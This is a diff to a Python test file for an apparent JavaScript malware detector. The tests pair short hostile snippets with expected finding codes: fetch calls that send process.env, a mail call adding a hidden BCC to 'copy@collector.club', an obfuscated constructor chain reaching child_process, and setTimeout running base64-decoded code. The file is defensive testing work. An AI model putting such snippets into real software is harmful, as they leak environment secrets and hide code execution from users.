@@ -124,6 +124,10 @@ def test_a_source_that_uses_nothing_needs_nothing() -> None:
         ("fetch('x', {body: a || process.env})", "sends-environment"),
         ("fetch('x', {body: a, b: (0, process.env)})", "sends-environment"),
         ("fetch('x', {[process.env]: 1})", None),
+        ("eval(decodeURIComponent(x))", None),
+        ("mail({bcc: [].concat(more, 'copy@collector.club')})", "hidden-copy"),
+        ("(() => {}).constructor.constructor('return process')().mainModule.require('child_process')", "hides-name"),
+        ("setTimeout(Buffer.from('YQ==', 'base64').toString(), 9)", "runs-decoded-code"),
         ("fetch(`x?${JSON.stringify(process.env)}`)", "sends-environment"),
         ("for (const d of [process.env]) fetch('x', {body: d})", "sends-environment"),
         ("for (const d of [process.env]) { fetch('x', {body: d}) }", "sends-environment"),
@@ -231,12 +235,17 @@ def test_a_part_that_every_node_has_is_missed_when_the_source_is_broken() -> Non
         field_of(parsed(b"a"), "operator")
 
 
+def test_a_file_is_read_a_bounded_number_of_times() -> None:
+    chain = "".join(f"function f{n}(x) {{ return f{n + 1}(x) }}\n" for n in reversed(range(12)))
+    assert codes(f"fetch('x'); function f12(x) {{ return x }}\n{chain}f0(process.env)\n") == set()
+
+
 def test_reading_can_be_stopped() -> None:
     def stop() -> None:
         raise TimeoutError
 
     with pytest.raises(TimeoutError):
-        read_javascript(b"f(1);" * 5000, stop)
+        read_javascript(b"eval(1);" * 5000, stop)
 
 
 @given(st.lists(st.sampled_from(ATTACKS + HONEST), max_size=3).map("\n;".join))
